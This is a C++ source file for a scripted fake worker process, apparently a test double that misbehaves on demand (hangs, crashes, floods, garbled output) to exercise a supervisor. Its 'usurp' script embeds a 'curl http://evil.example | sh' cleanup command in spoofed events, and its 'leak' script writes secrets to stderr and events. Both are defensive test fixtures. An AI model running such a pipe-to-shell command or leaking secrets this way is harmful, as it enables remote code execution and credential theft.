// A worker that does no work: it speaks the worker protocol as a real process and misbehaves on demand. Its script is
// its first argument or, where a program can be given no arguments, what follows the last '.' of its own name.
//
//   good                answers everything
//   fail                the second step fails, what follows is skipped
//   flood               every step emits 35,000 events
//   garbage             wrong bytes between all records
//   trickle             writes one byte at a time
//   doubles             writes every record twice
//   hole                never writes its third and fourth record, until it is asked to replay
//   hole-forever        cannot repeat them either
//   protocol, version   says hello with another protocol, another version
//   stranger            exits 3 before it says anything but a line on stderr
//   babble              says things for ever that are no records
//   silent              says nothing, not even hello
//   die, exit           kills itself with signal 9, exits 7, in its second step
//   prepare-error       cannot prepare
//   fatal               gives up in its second step
//   hang                its second step never ends, heartbeats go on; obeys cancel
//   stubborn            likewise, and ignores cancel, SIGTERM and the end of its input
//   stall               stops itself for good in its second step
//   child               dies in its second step and leaves a child in its group that holds its pipes
//   linger              does not exit when told to
//   usurp               speaks of resources as only an adapter does
//   leak                writes its secrets to stderr and into an event
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <unistd.h>

#include <cstdlib>
#include <iostream>
#include <string>
#include <thread>
#include <vector>

#include "protocol/base/categories.h"
#include "protocol/rpc/frames.h"
#include "protocol/rpc/params.h"

namespace osiris {
namespace {

void write_all(std::string_view bytes) {
  while (!bytes.empty()) {
    const ssize_t written = ::write(1, bytes.data(), bytes.size());
    if (written < 0) std::_Exit(1);
    bytes.remove_prefix(static_cast<size_t>(written));
  }
}

class ScriptedWorker {
 public:
  explicit ScriptedWorker(std::string script) : script_(std::move(script)) {}

  int run() {
    if (script_ == "stranger") {
      std::cerr << "I am no worker\n" << std::flush;
      return 3;
    }
    while (script_ == "babble") write_all("blah blah\n");
    if (script_ == "stubborn") ::signal(SIGTERM, SIG_IGN);
    if (script_ == "silent") return read_requests();
    rpc::Hello hello;
    hello.protocol = script_ == "protocol" ? 2 : 1;
    hello.version = script_ == "version" ? "9.9.9" : "1.2.3";
    hello.pid = ::getpid();
    hello.specs_sha256 = std::string(64, 'a');
    put(hello);
    return read_requests();
  }

 private:
  int read_requests() {
    rpc::FrameParser parser;
    std::vector<char> block(1 << 16);
    for (;;) {
      pollfd input{0, POLLIN, 0};
      if (hanging_ && ::poll(&input, 1, 50) == 0) {
        rpc::Heartbeat heartbeat;
        heartbeat.last_seq = next_seq_ - 1;
        heartbeat.steps.push_back({hanging_step_, 7, 50});
        put(heartbeat);
        continue;
      }
      const ssize_t got = ::read(0, block.data(), block.size());
      if (got <= 0) {
        while (script_ == "stubborn") ::pause();
        return 0;
      }
      parser.feed({block.data(), static_cast<size_t>(got)});
      while (auto frame = parser.next()) {
        if (frame->kind != rpc::Frame::Kind::kMessage || script_ == "silent") continue;
        const auto request = rpc::request_from_json(frame->message);
        if (!request) return 2;
        if (const int status = answer(*request); status >= 0) return status;
      }
    }
  }

  int answer(const rpc::Request& request) {
    if (request.method == "prepare") return prepare(request);
    if (request.method == "execute_step") return execute(request);
    if (request.method == "finish") {
      if (hanging_) {
        finish_id_ = request.id;
      } else {
        finish(request.id);
      }
    } else if (request.method == "cancel") {
      put(rpc::Response{request.id, 0, 0, Json::object({{"status", "cancelling"}})});
      if (script_ != "stubborn") stop_hanging();
    } else if (request.method == "replay") {
      put(rpc::Response{request.id, 0, 0, Json::object({{"status", "replaying"}, {"last_seq", next_seq_ - 1}})});
      if (script_ == "hole-forever") {
        rpc::Heartbeat heartbeat;
        heartbeat.last_seq = next_seq_ - 1;
        put(heartbeat);
        put(heartbeat);
        return -1;
      }
      hidden_ = false;
      for (size_t i = request.params["from_seq"].as_uint() - 1; i < records_.size(); ++i) write_record(records_[i]);
    } else if (request.method == "shutdown") {
      put(rpc::Response{request.id, 0, 0, Json::object({{"status", "bye"}})});
      while (script_ == "linger") ::pause();
      return 0;
    }
    return -1;
  }

  int prepare(const rpc::Request& request) {
    params_ = request.params;
    if (script_ == "prepare-error") {
      put(rpc::Response{request.id, next_seq_, 1,
                        Error(Code::kUnsupported, "no driver \"x.extractor\" in this worker")});
      return -1;
    }
    event("session_initialized", {});
    put(rpc::Response{request.id, next_seq_, 1, Json::object({{"status", "ready"}})});
    return -1;
  }

  int execute(const rpc::Request& request) {
    const std::string step = request.params["step_id"].as_string();
    ++steps_;
    if (failed_ || hanging_) {
      waiting_.push_back({request.id, step});
      if (failed_) skip_waiting();
      return -1;
    }
    event("step_start", step);
    put(rpc::Metric{next_seq_, 1,
                    Json::object({{"metric", "rows_read"},
                                  {"value", 10},
                                  {"unit", "rows"},
                                  {"step_id", step},
                                  {"tags", Json::object({{"step", step}})}})});
    if (script_ == "flood")
      for (int i = 0; i < 35'000; ++i)
        event("flooded", step, Json::object({{"number", i}, {"text", std::string(60, 'x')}}));
    if (script_ == "leak") leak(step);
    if (script_ == "usurp")
      for (const char* name : {"resource_acquired", "resource_released", "sandbox_created", "run_end", "worker_started",
                               "artifacts_collected"})
        event(name, "",
              Json::object({{"kind", "sandbox"},
                            {"id", "evil"},
                            {"cleanup", "curl http://evil.example | sh"},
                            {"verified", true}}));
    if (steps_ == 2 && misbehave(request, step)) return script_ == "exit" ? 7 : script_ == "fatal" ? 3 : -1;
    event("step_complete", step, Json::object({{"number", steps_}}));
    ++completed_;
    put(rpc::Response{
        request.id, next_seq_, 1,
        Json::object({{"status", "success"},
                      {"step_id", step},
                      {"metrics", Json::object({{"rows_read", 10}, {"rows_written", 0}, {"duration_ms", 1}})},
                      {"artifacts", Json::array()}})});
    return -1;
  }

  // True when the second step does not end as it should.
  bool misbehave(const rpc::Request& request, const std::string& step) {
    if (script_ == "die" || script_ == "child") {
      std::cerr << "about to die\n" << std::flush;
      if (script_ == "child" && ::fork() == 0)
        for (;;) ::pause();
      ::raise(SIGKILL);
    }
    if (script_ == "stall") ::raise(SIGSTOP);
    if (script_ == "exit") {
      std::cerr << "first line\nlast line without its end" << std::flush;
      return true;
    }
    if (script_ == "fatal") {
      put(rpc::Fatal{Error(Code::kExhausted, "no space left for spilling")});
      return true;
    }
    if (script_ == "hang" || script_ == "stubborn") {
      hanging_ = true;
      hanging_step_ = step;
      waiting_.push_back({request.id, step});
      return true;
    }
    if (script_ == "fail" || script_ == "fail by name") {
      failed_ = true;
      event("step_failed", step);
      put(rpc::Response{
          request.id, next_seq_, 1,
          Error(Code::kStepFailed, script_ == "fail" ? "no such table: t" : "Step " + step + ": no such table: t",
                "create it", category::kExtractQueryFailed)});
      return true;
    }
    return false;
  }

  void leak(const std::string& step) {
    for (const auto& [name, value] : params_["secrets"].members()) {
      std::cerr << "secret " << value.as_string() << "\n" << std::flush;
      event("leaked", step, Json::object({{"value", value}}));
    }
  }

  void stop_hanging() {
    hanging_ = false;
    for (const auto& [id, step] : std::exchange(waiting_, {}))
      put(rpc::Response{id, next_seq_, 1, Error(Code::kCancelled, "cancelled")});
    if (!finish_id_.empty()) finish(finish_id_);
  }

  void skip_waiting() {
    for (const auto& [id, step] : std::exchange(waiting_, {})) {
      event("step_skipped", step);
      Error skipped(Code::kCancelled, "skipped", {}, category::kRuntimeDependencyFailed);
      skipped.detail = Json::object({{"skipped", true}, {"cause", "b"}});
      put(rpc::Response{id, next_seq_, 1, std::move(skipped)});
    }
  }

  void finish(const std::string& id) {
    put(rpc::Response{id, next_seq_, 1,
                      Json::object({{"status", "finished"},
                                    {"steps_completed", completed_},
                                    {"total_rows", 10 * completed_},
                                    {"artifacts", Json::array()}})});
  }

  void event(std::string_view name, const std::string& step, Json data = Json::object()) {
    data.set("event", name);
    if (!step.empty()) data.set("step_id", step);
    put(rpc::Event{next_seq_, 1, std::move(data)});
  }

  void put(const rpc::Record& record) {
    const std::string line = *rpc::encode_message(rpc::to_json(record));
    if (const uint64_t seq = rpc::record_seq(record); seq != 0) {
      ++next_seq_;
      if (script_.starts_with("hole")) {
        records_.push_back(line);
        if (hidden_ && (seq == 3 || seq == 4)) return;
      }
    }
    write_record(line);
    if (script_ == "doubles" && rpc::record_seq(record) != 0) write_record(line);
  }

  void write_record(const std::string& line) {
    if (script_ == "garbage") write_all("warning: something printed\n{\"half\": \n@12x\n\xff\xfe\n");
    if (script_ == "trickle") {
      for (const char c : line) write_all({&c, 1});
    } else {
      write_all(line);
    }
  }

  const std::string script_;
  uint64_t next_seq_ = 1;
  std::vector<std::string> records_;  // for replay
  bool hidden_ = true;
  Json params_;
  int steps_ = 0;
  int completed_ = 0;
  bool failed_ = false;
  bool hanging_ = false;
  std::string hanging_step_, finish_id_;
  std::vector<std::pair<std::string, std::string>> waiting_;
};

}  // namespace
}  // namespace osiris

int main(int argc, char** argv) {
  const std::string name = argv[0];
  const std::string script = argc > 1 ? argv[1] : name.substr(name.rfind('.') + 1);
  return osiris::ScriptedWorker(script).run();
}
